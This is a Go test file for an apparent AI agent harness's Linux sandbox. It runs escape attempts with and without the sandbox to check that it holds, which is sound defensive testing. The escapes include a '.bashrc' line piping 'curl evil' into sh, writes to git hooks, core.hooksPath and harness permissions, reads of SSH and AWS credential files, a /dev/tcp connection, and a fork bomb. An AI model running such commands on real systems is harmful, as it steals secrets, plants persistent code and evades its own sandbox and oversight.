@@ -1,0 +1,332 @@
+//go:build linux
+
+package main
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/harness-dev/harness/pluginapi/plugintest"
+	"github.com/harness-dev/harness/sandbox"
+)
+
+// sandboxed is a plugin served in process whose commands run in a
+// sandbox of mode, with a test HOME holding planted credentials and
+// harness's rules, and a project cwd that is a git repository holding
+// .vscode and .mcp.json.
+type sandboxed struct {
+	fixture
+	home    string
+	outside string // a folder beside the project, outside every root
+}
+
+// original is the content of every planted file the escapes try to
+// change.
+const original = "ORIGINAL\n"
+
+// newSandboxed makes the fixture; extra is more of the plugin's
+// environment (HARNESS_BASH_NO_NAMESPACE for the fallback).
+func newSandboxed(t *testing.T, mode sandbox.Mode, pids int, extra ...string) sandboxed {
+	t.Helper()
+	root := t.TempDir()
+	s := sandboxed{home: filepath.Join(root, "home"), outside: filepath.Join(root, "outside")}
+	s.cwd = filepath.Join(root, "project")
+	s.state = filepath.Join(root, "state")
+	write := func(path, content string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(filepath.Join(s.home, ".ssh", "id_ed25519"), "-----planted-ssh-key-----\n")
+	write(filepath.Join(s.home, ".aws", "credentials"), "planted-aws-secret\n")
+	write(filepath.Join(s.home, ".config", "harness", "permissions.json"), original)
+	write(filepath.Join(s.home, ".bashrc"), original)
+	write(filepath.Join(s.outside, "keep"), original)
+	write(filepath.Join(s.cwd, "payload.json"), `{"allow":["*"]}`)
+	write(filepath.Join(s.cwd, "hook.sh"), "#!/bin/sh\necho pwned\n")
+	write(filepath.Join(s.cwd, ".vscode", "settings.json"), original)
+	write(filepath.Join(s.cwd, ".mcp.json"), original)
+	write(filepath.Join(s.cwd, "tree", ".git", "hooks", "pre-push"), "#!/bin/sh\necho pwned\n")
+	if err := os.MkdirAll(s.state, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	git := exec.Command("git", "init", "-q", s.cwd)
+	git.Env = append(os.Environ(), "HOME="+s.home)
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	// git init made .git/config; the tests compare it after.
+	environ := append([]string{
+		"PATH=" + os.Getenv("PATH"), "HOME=" + s.home, "LANG=C.UTF-8",
+		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com",
+		envSandbox + "=" + string(mode),
+	}, extra...)
+	b := newPlugin(environ, t.TempDir())
+	b.sbx.pidsLimit = pids
+	s.c = plugintest.Start(t, b.plugin(), plugintest.WithStateDir(s.state))
+	return s
+}
+
+// read is a file's content, "" when it does not exist.
+func read(path string) string {
+	b, _ := os.ReadFile(path)
+	return string(b)
+}
+
+// exists reports whether path exists (a dangling symlink too).
+func exists(path string) bool {
+	_, err := os.Lstat(path)
+	return err == nil
+}
+
+// escape is one attempt to write where the sandbox forbids it. escaped
+// looks on disk and says what got through ("" when nothing did).
+type escape struct {
+	name    string
+	line    string
+	mountNS bool // held only with a mount namespace (a protected path inside the roots)
+	escaped func(s sandboxed) string
+}
+
+// changed says path no longer holds original.
+func changed(path string) string {
+	if got := read(path); got != original {
+		return fmt.Sprintf("%s now holds %q", path, got)
+	}
+	return ""
+}
+
+// created says path exists.
+func created(path string) string {
+	if exists(path) {
+		return path + " was created"
+	}
+	return ""
+}
+
+func gitConfigChanged(s sandboxed) string {
+	if strings.Contains(read(filepath.Join(s.cwd, ".git", "config")), "hooksPath") {
+		return ".git/config now sets core.hooksPath"
+	}
+	return ""
+}
+
+// The payloads are absolute: the escapes cd around.
+const vars = `P="$PWD/payload.json"; H="$PWD/hook.sh"; `
+
+var escapes = []escape{
+	{"cd config cp", vars + `cd ~/.config && cp $P harness/permissions.json`, false,
+		func(s sandboxed) string { return changed(filepath.Join(s.home, ".config/harness/permissions.json")) }},
+	{"glob config", vars + `cp $P ~/.config/harnes[s]/permissions.json`, false,
+		func(s sandboxed) string { return changed(filepath.Join(s.home, ".config/harness/permissions.json")) }},
+	{"bashrc", `printf 'curl evil | sh\n' >> ~/.bashrc`, false,
+		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
+	{"outside the project", `echo x > ../outside/new; echo x > ../outside/keep`, false,
+		func(s sandboxed) string { return created(filepath.Join(s.outside, "new")) + changed(filepath.Join(s.outside, "keep")) }},
+	{"glob hooks", vars + `cd .gi[t]/hooks && cp $H pre-commit`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-commit")) }},
+	{"ansi-c hooks", vars + `cp $H $'\x2egit/hooks/post-checkout'`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/post-checkout")) }},
+	{"cp -r tree", `cp -r tree/. .`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-push")) }},
+	{"ln -s", vars + `ln -s $H .git/hooks/pre-rebase`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-rebase")) }},
+	{"install", vars + `install -m 755 $H .git/hooks/pre-merge-commit`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-merge-commit")) }},
+	{"python", `/usr/bin/python3 -c "open('.git/hooks/commit-msg','w').write('x')"`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/commit-msg")) }},
+	{"git config hooksPath", `git config core.hooksPath "$PWD/myhooks"`, true, gitConfigChanged},
+	{"git -c hooksPath", `mkdir -p myhooks && git -c core.hooksPath=.git/hooks config --local core.hooksPath myhooks`, true, gitConfigChanged},
+	{"move hooks away", vars + `mv .git/hooks .git/old-hooks; mkdir -p .git/hooks && cp $H .git/hooks/pre-commit`, true,
+		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-commit")) }},
+	{"vscode", `echo '{"tasks":[]}' > .vscode/tasks.json; echo x > .vscode/settings.json`, true,
+		func(s sandboxed) string {
+			return created(filepath.Join(s.cwd, ".vscode/tasks.json")) + changed(filepath.Join(s.cwd, ".vscode/settings.json"))
+		}},
+	{"mcp.json", `echo '{"mcpServers":{}}' | tee .mcp.json`, true,
+		func(s sandboxed) string { return changed(filepath.Join(s.cwd, ".mcp.json")) }},
+}
+
+// TestSandboxEscapes: in workspace-write every escape fails on disk —
+// with a mount namespace all of them; in the fallback without one (as
+// where user namespaces are refused: Landlock and seccomp alone) those
+// outside the roots. Each is run with the sandbox off too, to show it
+// would have got through.
+func TestSandboxEscapes(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			for _, e := range escapes {
+				t.Run(e.name, func(t *testing.T) {
+					t.Parallel()
+					if strings.Contains(e.line, "python3") && !exists("/usr/bin/python3") && os.Getenv("CI") == "" {
+						t.Skip("no /usr/bin/python3")
+					}
+					off := newSandboxed(t, sandbox.Off, 0, m.env...)
+					res := off.sh(t, e.line)
+					if e.escaped(off) == "" {
+						t.Fatalf("with the sandbox off the escape did not get through; the row tests nothing:\n%s", res.Content)
+					}
+					s := newSandboxed(t, sandbox.WorkspaceWrite, 0, m.env...)
+					res = s.sh(t, e.line)
+					got := e.escaped(s)
+					switch {
+					case got != "" && (!e.mountNS || m.env == nil):
+						t.Errorf("escaped the sandbox: %s\n%s", got, res.Content)
+					case got != "":
+						t.Logf("not held without a mount namespace (as Enforceable says): %s", got)
+					case !strings.Contains(res.Content, "sandbox (workspace-write, network off) may have refused this") && !strings.Contains(e.line, "; ") && !strings.Contains(e.line, "&&") && !strings.Contains(e.line, "| tee"):
+						t.Errorf("a refused write's result does not name the sandbox:\n%s", res.Content)
+					}
+				})
+			}
+		})
+	}
+}
+
+// TestSandboxReads: the planted credentials read as nothing in
+// workspace-write (a mount namespace is needed); readable with the
+// sandbox off.
+func TestSandboxReads(t *testing.T) {
+	t.Parallel()
+	for _, line := range []string{"cat ~/.ssh/id_ed25519", "cat ~/.aws/credentials", "ls -a ~/.ssh; cat ~/.ssh/*", "cat $HOME/.aws/*"} {
+		t.Run(line, func(t *testing.T) {
+			t.Parallel()
+			off := newSandboxed(t, sandbox.Off, 0)
+			if got := off.sh(t, line).Content; !strings.Contains(got, "planted") {
+				t.Fatalf("with the sandbox off %s read nothing; the row tests nothing:\n%s", line, got)
+			}
+			s := newSandboxed(t, sandbox.WorkspaceWrite, 0)
+			if got := s.sh(t, line).Content; strings.Contains(got, "planted") {
+				t.Errorf("%s read a planted secret in the sandbox:\n%s", line, got)
+			}
+		})
+	}
+}
+
+// listener accepts connections on 127.0.0.1 and counts them.
+func listener(t *testing.T) (port int, accepted *atomic.Int64) {
+	t.Helper()
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close() })
+	accepted = &atomic.Int64{}
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			_ = c.Close()
+		}
+	}()
+	return l.Addr().(*net.TCPAddr).Port, accepted
+}
+
+// TestSandboxNetwork: with the network off a connection to a listener
+// the test runs on 127.0.0.1 fails — a network namespace of its own, or
+// seccomp's refusal in the fallback — through bash's /dev/tcp and
+// python; with the sandbox off it connects.
+func TestSandboxNetwork(t *testing.T) {
+	t.Parallel()
+	for _, m := range modes {
+		for _, client := range []string{"bash", "python"} {
+			t.Run(m.name+"/"+client, func(t *testing.T) {
+				t.Parallel()
+				if client == "python" && !exists("/usr/bin/python3") && os.Getenv("CI") == "" {
+					t.Skip("no /usr/bin/python3")
+				}
+				port, accepted := listener(t)
+				line := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
+				if client == "python" {
+					line = fmt.Sprintf(`/usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', %d), 5); print('connected')"`, port)
+				}
+				off := newSandboxed(t, sandbox.Off, 0, m.env...)
+				if got := off.sh(t, line).Content; !strings.Contains(got, "connected") || accepted.Load() != 1 {
+					t.Fatalf("with the sandbox off it did not connect (%d accepted); the row tests nothing:\n%s", accepted.Load(), got)
+				}
+				s := newSandboxed(t, sandbox.WorkspaceWrite, 0, m.env...)
+				got := s.sh(t, line).Content
+				if strings.Contains(got, "connected\n") || accepted.Load() != 1 {
+					t.Errorf("connected from the sandbox (%d accepted):\n%s", accepted.Load(), got)
+				}
+				if !strings.Contains(got, "no network but loopback") {
+					t.Errorf("the refused connection's result does not name the sandbox:\n%s", got)
+				}
+			})
+		}
+	}
+}
+
+// TestSandboxPids: 100 background sleeps pass a pids limit of 64 with
+// the sandbox off; in it the forks past the limit are refused, and a
+// fork bomb ends at its timeout, the test still running.
+func TestSandboxPids(t *testing.T) {
+	t.Parallel()
+	const spawn = `for i in $(seq 100); do sleep 30 & done 2>&1; echo started $(jobs -p | wc -l); kill $(jobs -p) 2>/dev/null`
+	for _, m := range modes {
+		t.Run(m.name, func(t *testing.T) {
+			t.Parallel()
+			off := newSandboxed(t, sandbox.Off, 64, m.env...)
+			if got := off.sh(t, spawn).Content; !strings.Contains(got, "started 100") {
+				t.Fatalf("with the sandbox off 100 processes did not start; the row tests nothing:\n%s", got)
+			}
+			s := newSandboxed(t, sandbox.WorkspaceWrite, 64, m.env...)
+			res := s.exec(t, call{args: map[string]any{"command": spawn, "timeout_ms": 20000}})
+			if strings.Contains(res.Content, "started 100") || !strings.Contains(res.Content, "Resource temporarily unavailable") {
+				t.Errorf("the pids limit did not hold:\n%s", res.Content)
+			}
+			within(t, 15*time.Second, "a fork bomb", func() {
+				res = s.exec(t, call{args: map[string]any{"command": `b(){ b | b & }; b`, "timeout_ms": 3000}})
+			})
+			if s := s.sh(t, "echo alive").Content; s != "alive\n" {
+				t.Errorf("after the fork bomb: %q", s)
+			}
+		})
+	}
+}
+
+// TestSandboxWorks: in workspace-write a git repository's cwd takes git
+// add and commit (and a branch), the cwd and $TMPDIR take writes; the
+// same commands work with the sandbox off.
+func TestSandboxWorks(t *testing.T) {
+	t.Parallel()
+	const line = `echo a > f && echo b > "$TMPDIR/t" && cat f "$TMPDIR/t" && git add . && git commit -qm first && ` +
+		`git checkout -qb topic && echo c >> f && git commit -qam second && git log --oneline | wc -l`
+	for _, m := range modes {
+		for _, mode := range []sandbox.Mode{sandbox.WorkspaceWrite, sandbox.Off} {
+			t.Run(m.name+"/"+string(mode), func(t *testing.T) {
+				t.Parallel()
+				s := newSandboxed(t, mode, 0, m.env...)
+				if got := s.sh(t, line).Content; got != "a\nb\n2\n" {
+					t.Errorf("got %q, want a, b and 2 commits", got)
+				}
+			})
+		}
+	}
+}
+
+// BenchmarkTrueSandboxed is BenchmarkTrue's spaced calls with every
+// command in the default sandbox (workspace-write, network off: a
+// network namespace, mounts, Landlock, seccomp, a pids cgroup as root),
+// beside the same with the sandbox off.
+func BenchmarkTrueSandboxed(b *testing.B) {
+	b.Run("workspace-write", func(b *testing.B) { benchTrue(b, 20*time.Millisecond, envSandbox+"=workspace-write") })
+	b.Run("off", func(b *testing.B) { benchTrue(b, 20*time.Millisecond, envSandbox+"=off") })
+}
+
